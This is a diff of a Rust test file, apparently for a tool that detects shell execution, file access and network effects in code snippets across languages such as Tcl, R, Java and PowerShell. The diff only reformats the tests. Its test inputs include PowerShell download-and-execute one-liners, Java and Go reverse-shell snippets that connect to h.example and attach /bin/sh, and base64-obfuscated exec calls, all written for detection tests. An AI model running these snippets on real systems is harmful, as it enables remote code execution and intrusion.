@@ -9,10 +9,7 @@ fn tcl_and_expect() {
         Lang::Tcl,
         &[
             ("exec ls -l", &["argv ls|-l"]),
-            (
-                "puts [exec sh -c {cat /etc/hosts}]",
-                &["argv sh|-c|cat /etc/hosts"],
-            ),
+            ("puts [exec sh -c {cat /etc/hosts}]", &["argv sh|-c|cat /etc/hosts"]),
             ("exec ls | wc -l", &["argv ls", "argv wc|-l"]),
             ("set c id; exec $c", &["argv id"]),
             ("set c i; append c d; exec $c", &["argv id"]),
@@ -20,14 +17,8 @@ fn tcl_and_expect() {
             ("exec sh -c [binary decode base64 aWQ=]", &["argv sh|-c|id"]),
             ("eval {exec id}", &["argv id"]),
             ("if {1} { exec id }", &["argv id"]),
-            (
-                "set f [open /etc/hosts]; puts [read $f]",
-                &["read /etc/hosts"],
-            ),
-            (
-                "set f [open /tmp/x w]; puts $f DATA",
-                &["write /tmp/x <- DATA"],
-            ),
+            ("set f [open /etc/hosts]; puts [read $f]", &["read /etc/hosts"]),
+            ("set f [open /tmp/x w]; puts $f DATA", &["write /tmp/x <- DATA"]),
             ("open \"|ls -l\"", &["argv ls|-l"]),
             ("load ./x.so y", &["load ./x.so"]),
             ("source /srv/x.tcl", &["script tcl /srv/x.tcl"]),
@@ -66,15 +57,9 @@ fn scheme_and_emacs() {
         &[
             ("(system \"/bin/sh\")", &["shell /bin/sh"]),
             ("(system* \"ls\" \"-l\")", &["argv ls|-l"]),
-            (
-                "(define c (string-append \"i\" \"d\")) (system c)",
-                &["shell id"],
-            ),
+            ("(define c (string-append \"i\" \"d\")) (system c)", &["shell id"]),
             ("(let ((c \"id\")) (system c))", &["shell id"]),
-            (
-                "(display (call-with-input-file \"/etc/hosts\" read-string))",
-                &["read /etc/hosts"],
-            ),
+            ("(display (call-with-input-file \"/etc/hosts\" read-string))", &["read /etc/hosts"]),
             ("(delete-file \"/tmp/x\")", &["delete /tmp/x"]),
             ("(display \"(system 1)\")", &["print (system 1)"]),
             ("; (system \"x\")", &[]),
@@ -88,22 +73,13 @@ fn scheme_and_emacs() {
             ("(term \"/bin/sh\")", &["shell /bin/sh"]),
             ("(shell-command \"id\")", &["shell id"]),
             ("(call-process \"ls\" nil t nil \"-l\")", &["argv ls|-l"]),
-            (
-                "(start-process \"n\" \"b\" \"sh\" \"-c\" \"id\")",
-                &["argv sh|-c|id"],
-            ),
-            (
-                "(princ (shell-command-to-string (concat \"i\" \"d\")))",
-                &["shell id"],
-            ),
+            ("(start-process \"n\" \"b\" \"sh\" \"-c\" \"id\")", &["argv sh|-c|id"]),
+            ("(princ (shell-command-to-string (concat \"i\" \"d\")))", &["shell id"]),
             (
                 "(with-temp-buffer (insert-file-contents \"/etc/hosts\") (princ (buffer-string)))",
                 &["read /etc/hosts"],
             ),
-            (
-                "(write-region \"DATA\" nil \"/tmp/x\")",
-                &["write /tmp/x <- DATA"],
-            ),
+            ("(write-region \"DATA\" nil \"/tmp/x\")", &["write /tmp/x <- DATA"]),
             ("(delete-directory \"/srv/x\" t)", &["tree /srv/x"]),
             ("(load-file \"/srv/x.el\")", &["script emacs /srv/x.el"]),
             ("(message \"hi\")", &["print hi\n"]),
@@ -122,10 +98,7 @@ fn r_julia_octave() {
             ("base::system('id')", &["shell id"]),
             ("x <- paste0('i', 'd'); system(x)", &["shell id"]),
             ("system(paste('ls', '-l'))", &["shell ls -l"]),
-            (
-                "eval(parse(text='system(\"id\")'))",
-                &["eval r system(\"id\")"],
-            ),
+            ("eval(parse(text='system(\"id\")'))", &["eval r system(\"id\")"]),
             (
                 "download.file('http://h.example/x', '/tmp/x')",
                 &["fetch http://h.example/x -> /tmp/x"],
@@ -135,10 +108,7 @@ fn r_julia_octave() {
             ("unlink('/tmp/x')", &["delete /tmp/x"]),
             ("dyn.load('./x.so')", &["load ./x.so"]),
             ("print(summary(cars))", &[]),
-            (
-                "x <- read.csv('data.csv'); mean(x$exec)",
-                &["read data.csv"],
-            ),
+            ("x <- read.csv('data.csv'); mean(x$exec)", &["read data.csv"]),
             ("# system('x')", &[]),
         ],
     );
@@ -148,18 +118,9 @@ fn r_julia_octave() {
             ("run(`/bin/sh -p`)", &["argv /bin/sh|-p"]),
             ("c = \"id\"; run(`$c -u`)", &["argv id|-u"]),
             ("read(`ls -l`, String)", &["argv ls|-l"]),
-            (
-                "print(open(f->read(f, String), ENV[\"TARGET\"]))",
-                &["read /srv/data.bin"],
-            ),
-            (
-                "open(f->write(f, \"DATA\"), \"/tmp/x\", \"w\")",
-                &["write /tmp/x <- DATA"],
-            ),
-            (
-                "download(ENV[\"LINK\"], \"/tmp/x\")",
-                &["fetch http://peer.example/tool -> /tmp/x"],
-            ),
+            ("print(open(f->read(f, String), ENV[\"TARGET\"]))", &["read /srv/data.bin"]),
+            ("open(f->write(f, \"DATA\"), \"/tmp/x\", \"w\")", &["write /tmp/x <- DATA"]),
+            ("download(ENV[\"LINK\"], \"/tmp/x\")", &["fetch http://peer.example/tool -> /tmp/x"]),
             ("eval(Meta.parse(\"1+1\"))", &["eval julia 1+1"]),
             ("include(\"/srv/x.jl\")", &["script julia /srv/x.jl"]),
             (
@@ -216,36 +177,24 @@ fn go_java_groovy() {
                 &["connect h.example 99", "argv /bin/sh", "attach"],
             ),
             ("func main(){ os.RemoveAll(\"/srv/x\") }", &["tree /srv/x"]),
-            (
-                "func main(){ fmt.Println(\"exec.Command\") }",
-                &["print exec.Command\n"],
-            ),
+            ("func main(){ fmt.Println(\"exec.Command\") }", &["print exec.Command\n"]),
         ],
     );
     check(
         Lang::Java,
         &[
             ("Runtime.getRuntime().exec(\"ls -l\");", &["argv ls|-l"]),
-            (
-                "new ProcessBuilder(\"sh\", \"-c\", \"id\").start();",
-                &["argv sh|-c|id"],
-            ),
+            ("new ProcessBuilder(\"sh\", \"-c\", \"id\").start();", &["argv sh|-c|id"]),
             (
                 "Runtime r = Runtime.getRuntime(); Process p = r.exec(new String[]{\"sh\",\"-c\",\"id\"});",
                 &["argv sh|-c|id"],
             ),
-            (
-                "String x = Files.readString(Path.of(\"/etc/hosts\"));",
-                &["read /etc/hosts"],
-            ),
+            ("String x = Files.readString(Path.of(\"/etc/hosts\"));", &["read /etc/hosts"]),
             (
                 "Process p=new ProcessBuilder(\"sh\").redirectErrorStream(true).start();Socket s=new Socket(\"h.example\",99);InputStream si=s.getInputStream();OutputStream po=p.getOutputStream();po.write(si.read());",
                 &["argv sh", "connect h.example 99", "attach"],
             ),
-            (
-                "System.out.println(\"Runtime.exec\");",
-                &["print Runtime.exec\n"],
-            ),
+            ("System.out.println(\"Runtime.exec\");", &["print Runtime.exec\n"]),
         ],
     );
     check(
@@ -255,10 +204,7 @@ fn go_java_groovy() {
             ("println \"ls -l\".execute().text", &["argv ls|-l"]),
             ("['sh','-c','id'].execute()", &["argv sh|-c|id"]),
             ("def c = 'id'; \"${c} -u\".execute()", &["argv id|-u"]),
-            (
-                "println new File('/etc/hosts').getText()",
-                &["read /etc/hosts"],
-            ),
+            ("println new File('/etc/hosts').getText()", &["read /etc/hosts"]),
             ("println 'execute'", &["print execute\n"]),
         ],
     );
@@ -304,14 +250,8 @@ fn powershell_and_osascript() {
                 "IEX (New-Object Net.WebClient).DownloadString('http://h.example/x')",
                 &["fetch http://h.example/x", "received"],
             ),
-            (
-                "iex (iwr http://h.example/x)",
-                &["fetch http://h.example/x", "received"],
-            ),
-            (
-                "iwr http://h.example/x | iex",
-                &["fetch http://h.example/x", "received"],
-            ),
+            ("iex (iwr http://h.example/x)", &["fetch http://h.example/x", "received"]),
+            ("iwr http://h.example/x | iex", &["fetch http://h.example/x", "received"]),
             (
                 "Invoke-WebRequest -Uri http://h.example/x -OutFile /tmp/x",
                 &["fetch http://h.example/x -> /tmp/x"],
@@ -322,10 +262,7 @@ fn powershell_and_osascript() {
             ("Start-Process sh -ArgumentList '-i'", &["argv sh|-i"]),
             ("& '/bin/sh' -i", &["argv /bin/sh|-i"]),
             ("$c = 'i' + 'd'; iex $c", &["eval powershell id"]),
-            (
-                "[System.IO.File]::ReadAllText('/etc/hosts')",
-                &["read /etc/hosts"],
-            ),
+            ("[System.IO.File]::ReadAllText('/etc/hosts')", &["read /etc/hosts"]),
             (
                 "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWQ=')))",
                 &["eval powershell id"],
@@ -343,18 +280,9 @@ fn powershell_and_osascript() {
         Lang::Osascript,
         &[
             ("do shell script \"id\"", &["shell id"]),
-            (
-                "do shell script \"id\" with administrator privileges",
-                &["shell id"],
-            ),
-            (
-                "tell application \"Terminal\" to do script \"id\"",
-                &["shell id"],
-            ),
-            (
-                "var a = Application.currentApplication(); a.doShellScript(\"id\")",
-                &["shell id"],
-            ),
+            ("do shell script \"id\" with administrator privileges", &["shell id"]),
+            ("tell application \"Terminal\" to do script \"id\"", &["shell id"]),
+            ("var a = Application.currentApplication(); a.doShellScript(\"id\")", &["shell id"]),
             ("display dialog \"do shell script\"", &[]),
             ("-- do shell script \"x\"", &[]),
         ],
